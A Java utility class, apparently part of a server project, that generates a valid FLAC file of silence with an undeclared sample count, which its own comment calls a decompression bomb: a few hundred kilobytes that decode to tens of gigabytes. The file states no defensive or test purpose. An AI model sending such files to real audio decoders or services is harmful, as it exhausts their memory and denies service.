package dev.vtubermiku.server;

import java.io.ByteArrayOutputStream;

/**
 * A valid FLAC file of pure digital silence, as long as asked, with its total sample count left
 * undeclared (0): a decompression bomb. Each 4096-frame block is two CONSTANT subframes, about 15
 * bytes, so 24 hours of 48 kHz stereo take about 320 KB and decode to 33 GB of floats.
 */
public final class FlacBomb {

    private static final int BLOCK = 4096;
    private static final int RATE = 48_000;

    private FlacBomb() {}

    public static byte[] silence(double seconds) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(new byte[] {'f', 'L', 'a', 'C'});
        out.write(0x80); // last metadata block, type 0: STREAMINFO
        out.writeBytes(new byte[] {0, 0, 34});
        Bits info = new Bits();
        info.put(BLOCK, 16).put(BLOCK, 16).put(0, 24).put(0, 24);
        info.put(RATE, 20).put(2 - 1, 3).put(16 - 1, 5);
        info.put(0, 4).put(0, 32); // total samples: unknown
        for (int i = 0; i < 16; i++) {
            info.put(0, 8); // MD5 of the signal: not computed
        }
        out.writeBytes(info.bytes());
        long frames = (long) Math.ceil(seconds * RATE / BLOCK);
        for (long n = 0; n < frames; n++) {
            out.writeBytes(frame(n));
        }
        return out.toByteArray();
    }

    private static byte[] frame(long number) {
        Bits header = new Bits();
        header.put(0b11111111111110, 14).put(0, 1).put(0, 1); // sync, reserved, fixed block size
        header.put(0b1100, 4).put(0b1010, 4); // 4096 samples, 48 kHz
        header.put(0b0001, 4).put(0b100, 3).put(0, 1); // left/right, 16 bits
        for (byte b : utf8(number)) {
            header.put(b & 0xFF, 8);
        }
        byte[] head = header.bytes();
        ByteArrayOutputStream frame = new ByteArrayOutputStream();
        frame.writeBytes(head);
        frame.write(crc8(head));
        for (int channel = 0; channel < 2; channel++) {
            frame.writeBytes(new byte[] {0, 0, 0}); // CONSTANT subframe, no wasted bits, value 0
        }
        byte[] body = frame.toByteArray();
        int crc = crc16(body);
        frame.write(crc >> 8);
        frame.write(crc & 0xFF);
        return frame.toByteArray();
    }

    /** FLAC codes frame numbers like UTF-8 code points. */
    private static byte[] utf8(long v) {
        if (v < 0x80) {
            return new byte[] {(byte) v};
        }
        if (v < 0x800) {
            return new byte[] {(byte) (0xC0 | v >> 6), (byte) (0x80 | v & 0x3F)};
        }
        if (v < 0x10000) {
            return new byte[] {(byte) (0xE0 | v >> 12), (byte) (0x80 | v >> 6 & 0x3F), (byte) (0x80 | v & 0x3F)};
        }
        return new byte[] {(byte) (0xF0 | v >> 18), (byte) (0x80 | v >> 12 & 0x3F), (byte) (0x80 | v >> 6 & 0x3F),
            (byte) (0x80 | v & 0x3F)};
    }

    private static int crc8(byte[] data) {
        int crc = 0;
        for (byte b : data) {
            crc ^= b & 0xFF;
            for (int i = 0; i < 8; i++) {
                crc = (crc & 0x80) != 0 ? (crc << 1 ^ 0x07) & 0xFF : crc << 1 & 0xFF;
            }
        }
        return crc;
    }

    private static int crc16(byte[] data) {
        int crc = 0;
        for (byte b : data) {
            crc ^= (b & 0xFF) << 8;
            for (int i = 0; i < 8; i++) {
                crc = (crc & 0x8000) != 0 ? (crc << 1 ^ 0x8005) & 0xFFFF : crc << 1 & 0xFFFF;
            }
        }
        return crc;
    }

    /** Big-endian bit writer. */
    private static final class Bits {
        private final ByteArrayOutputStream out = new ByteArrayOutputStream();
        private int current;
        private int used;

        Bits put(long value, int bits) {
            for (int i = bits - 1; i >= 0; i--) {
                current = current << 1 | (int) (value >> i & 1);
                if (++used == 8) {
                    out.write(current);
                    current = 0;
                    used = 0;
                }
            }
            return this;
        }

        byte[] bytes() {
            return out.toByteArray();
        }
    }
}
